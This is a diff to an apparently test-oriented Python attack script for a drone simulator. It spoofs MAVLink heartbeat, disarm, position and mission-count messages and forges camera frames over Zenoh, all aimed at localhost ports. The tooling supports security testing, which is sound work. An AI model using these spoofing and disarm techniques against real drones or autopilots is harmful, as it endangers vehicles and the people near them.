@@ -13,9 +13,10 @@ ATTACK
                  vehicle's ground-station port 18570+N
   position       LOCAL_POSITION_NED as the autopilot (north 1234.5 m, east -987 m, down -50 m)
                  to the companion's port 14540+N
-  mission-count  MISSION_COUNT (fence, 5 items) to the ground-station port every 2 s
+  mission-count  MISSION_COUNT (fence, 5 items) to the ground-station port every --period s
+                 (2 s: the lock as the issue found it, renewed before the vehicle's 5 s timeout)
   frame          the camera's next frame forged (same stream id, sequence + 1, a black image)
-                 on skyherd/uav0/camera/frame at tcp/127.0.0.1:P
+                 on skyherd/uav0/camera/frame at tcp/127.0.0.1:P, --count times
 """
 
 from __future__ import annotations
@@ -23,6 +24,7 @@ from __future__ import annotations
 import argparse
 import json
 import os
+import queue
 import signal
 import sys
 import time
@@ -44,7 +46,7 @@ def _stop_flag() -> dict:
     return flag
 
 
-def mavlink_attack(attack: str, instance: int, flag: dict) -> dict:
+def mavlink_attack(attack: str, instance: int, flag: dict, period_s: float) -> dict:
     os.environ["MAVLINK20"] = "1"  # pymavlink's mavutil: MAVLink 2 frames, as skyherd speaks
     from pymavlink import mavutil
     from pymavlink.dialects.v20 import ardupilotmega as M
@@ -61,7 +63,7 @@ def mavlink_attack(attack: str, instance: int, flag: dict) -> dict:
     last = -1e9
     while not flag["stop"]:
         now = time.monotonic()
-        period = MISSION_COUNT_PERIOD_S if attack == "mission-count" else RATE_S
+        period = period_s if attack == "mission-count" else RATE_S
         if now - last >= period:
             last = now
             ms = int((now - t0) * 1000) + 3_600_000  # newer than any flight's own time
@@ -98,45 +100,64 @@ def mavlink_attack(attack: str, instance: int, flag: dict) -> dict:
     return {"attack": attack, "sent": sent, "replies": replies}
 
 
-def frame_attack(instance: int, zenoh_port: int, flag: dict) -> dict:
+def frame_attack(instance: int, zenoh_port: int, flag: dict, count: int) -> dict:
     """Listen to the camera, and answer each real frame with a forged next one (same stream
     id, sequence + 1) at once, so the forgery arrives before the real frame of that number."""
     import numpy as np
     import zenoh
 
-    from perception.transport import FRAME_KEY, decode_frame, encode_frame
+    sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))  # skyherd
+    from perception.transport import decode_frame, encode_frame, frame_key
 
     conf = zenoh.Config()
-    conf.insert_json5("mode", '"peer"')
+    conf.insert_json5("mode", '"client"')
     conf.insert_json5("connect/endpoints", json.dumps([f"tcp/127.0.0.1:{zenoh_port}"]))
-    conf.insert_json5("listen/endpoints", "[]")
     conf.insert_json5("scouting/multicast/enabled", "false")
-    session = zenoh.open(conf)
-    key = FRAME_KEY.format(vehicle="uav0")
-    pub = session.declare_publisher(key)
-    state = {"sent": 0, "seen": 0, "own": set()}
-
-    def on_frame(sample) -> None:
-        data = bytes(sample.payload.to_bytes())
-        if data in state["own"]:
-            return
+    while not flag["stop"]:  # the simulator's peer listens only once it has started
         try:
-            f = decode_frame(data)
-        except ValueError:
-            return  # signed frames: the attacker reads the header it needs below
-        state["seen"] += 1
-        forged = encode_frame(f.t + 0.1, f.pos_ned, f.quat, np.zeros_like(f.image),
-                              seq=f.seq + 1, stream=f.stream)  # fmt: skip
-        state["own"] = {forged}
-        pub.put(forged)
-        state["sent"] += 1
+            session = zenoh.open(conf)
+            break
+        except zenoh.ZError:
+            time.sleep(0.2)
+    else:
+        return {"attack": "frame", "sent": 0, "seen": 0}
+    key = frame_key("uav0")
+    pub = session.declare_publisher(key)
+    state = {"sent": 0, "seen": 0}
+    todo: queue.Queue = queue.Queue(maxsize=4)
+
+    def on_frame(sample) -> None:  # Zenoh's thread: read only; the main thread forges
+        try:
+            todo.put_nowait(bytes(sample.payload.to_bytes()))
+        except queue.Full:
+            pass
 
     sub = session.declare_subscriber(key, on_frame)
+    own: set[bytes] = set()
     while not flag["stop"]:
-        time.sleep(0.05)
+        if state["sent"] >= count:  # forged enough: wait for the end
+            time.sleep(0.05)
+            continue
+        try:
+            data = todo.get(timeout=0.05)
+        except queue.Empty:
+            continue
+        if data in own:
+            continue
+        try:
+            f = decode_frame(data)  # a signed frame reads too: only its trailer is unknown
+        except ValueError:
+            continue
+        state["seen"] += 1
+        forged = encode_frame(f.seq + 1, round(f.t_sim + 0.1, 6), f.pos_ned, f.quat,
+                              np.zeros_like(f.image), f.encoding, f.stream)  # fmt: skip
+        own = {forged}
+        pub.put(forged)
+        state["sent"] += 1
     sub.undeclare()
+    pub.undeclare()
     session.close()
-    return {"attack": "frame", "sent": state["sent"], "seen": state["seen"]}
+    return {"attack": "frame", **state}
 
 
 def main(argv=None) -> int:
@@ -146,12 +167,16 @@ def main(argv=None) -> int:
     p.add_argument("attack", choices=["heartbeat", "disarm", "position", "mission-count", "frame"])
     p.add_argument("--instance", type=int, required=True, help="the vehicle instance N")
     p.add_argument("--zenoh-port", type=int, default=7447, help="the simulator's Zenoh port")
+    p.add_argument("--period", type=float, default=MISSION_COUNT_PERIOD_S, metavar="S",
+                   help="mission-count: seconds (wall) between MISSION_COUNTs")  # fmt: skip
+    p.add_argument("--count", type=int, default=1 << 62, metavar="N",
+                   help="frame: forge this many frames, then only wait (default: no limit)")  # fmt: skip
     args = p.parse_args(argv)
     flag = _stop_flag()
     if args.attack == "frame":
-        out = frame_attack(args.instance, args.zenoh_port, flag)
+        out = frame_attack(args.instance, args.zenoh_port, flag, args.count)
     else:
-        out = mavlink_attack(args.attack, args.instance, flag)
+        out = mavlink_attack(args.attack, args.instance, flag, args.period)
     print(json.dumps(out), flush=True)
     return 0
 
